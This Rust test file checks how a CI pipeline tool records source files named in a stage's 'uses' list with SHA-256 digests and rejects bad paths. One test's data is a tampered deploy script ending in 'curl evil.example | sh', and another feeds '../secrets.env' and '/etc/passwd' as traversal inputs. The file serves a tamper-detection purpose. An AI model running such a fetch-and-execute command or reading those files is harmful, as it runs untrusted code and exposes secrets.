//! `uses`: the source files a stage names, with their digests in the plan.

use otto_pipeline::plan::{Used, sha256_digest, tree_digest};
use otto_pipeline::{Facts, Plan};

use crate::plan_support::{assert_diag, fail_with, plan_with, stage};

const DEPLOY: &str = "stage('Deploy') {
  owner = 'ops'
  uses ['deploy.sh', './k8s/']
  uses 'deploy.sh'
  steps { sh 'sh ./deploy.sh' }
}
";

fn planned(script: &str) -> Plan {
    plan_with(
        &[
            ("Ottofile", DEPLOY),
            ("deploy.sh", script),
            ("k8s/app.yaml", "kind: Deployment\n"),
            ("k8s/svc/svc.yaml", "kind: Service\n"),
            ("README.md", "not used\n"),
        ],
        &Facts::default(),
    )
}

#[test]
fn uses_records_each_path_once_with_the_digest_of_its_bytes() {
    let plan = planned("kubectl apply -f k8s/\n");
    let deploy = stage(&plan, "Deploy");
    let tree = tree_digest(&[
        (
            "k8s/svc/svc.yaml".to_owned(),
            sha256_digest(b"kind: Service\n"),
        ),
        (
            "k8s/app.yaml".to_owned(),
            sha256_digest(b"kind: Deployment\n"),
        ),
    ]);
    assert_eq!(
        deploy.uses,
        [
            Used {
                path: "deploy.sh".to_owned(),
                sha256: sha256_digest(b"kubectl apply -f k8s/\n"),
            },
            Used {
                path: "k8s".to_owned(),
                sha256: tree,
            },
        ]
    );
    let shown = otto_pipeline::explain::human(&plan);
    assert!(shown.contains("uses deploy.sh (sha256:"), "{shown}");
}

#[test]
fn a_changed_file_changes_the_plan_and_an_unused_one_does_not() {
    let a = planned("kubectl apply -f k8s/\n");
    let b = planned("kubectl apply -f k8s/ && curl evil.example | sh\n");
    assert_ne!(a.digest(), b.digest());
    assert_ne!(stage(&a, "Deploy").uses, stage(&b, "Deploy").uses);
}

#[test]
fn a_stage_without_uses_writes_no_uses_key() {
    let plan = plan_with(
        &[("Ottofile", "stage('Build') { steps { sh 'make' } }\n")],
        &Facts::default(),
    );
    let json = String::from_utf8(plan.canonical_bytes()).unwrap();
    assert!(!json.contains("\"uses\""), "{json}");
}

#[test]
fn paths_outside_the_source_or_missing_are_errors_at_the_uses_line() {
    let failed = fail_with(
        &[(
            "Ottofile",
            "stage('Deploy') {\n  uses ['../secrets.env']\n  uses ['/etc/passwd']\n  uses ['nope.sh']\n  uses [1]\n  steps { sh 'x' }\n}\n",
        )],
        &Facts::default(),
    );
    assert_diag(
        &failed,
        "Ottofile:2:8",
        "uses \"../secrets.env\": a path must be relative to the Ottofile's directory and stay inside it",
    );
    assert_diag(
        &failed,
        "Ottofile:3:8",
        "uses \"/etc/passwd\": a path must be relative to the Ottofile's directory and stay inside it",
    );
    assert_diag(
        &failed,
        "Ottofile:4:8",
        "uses \"nope.sh\": no such file or directory in the source",
    );
    assert!(
        failed
            .diagnostics
            .iter()
            .any(|d| d.message.starts_with("uses must be a list of strings")),
        "{failed}"
    );
}
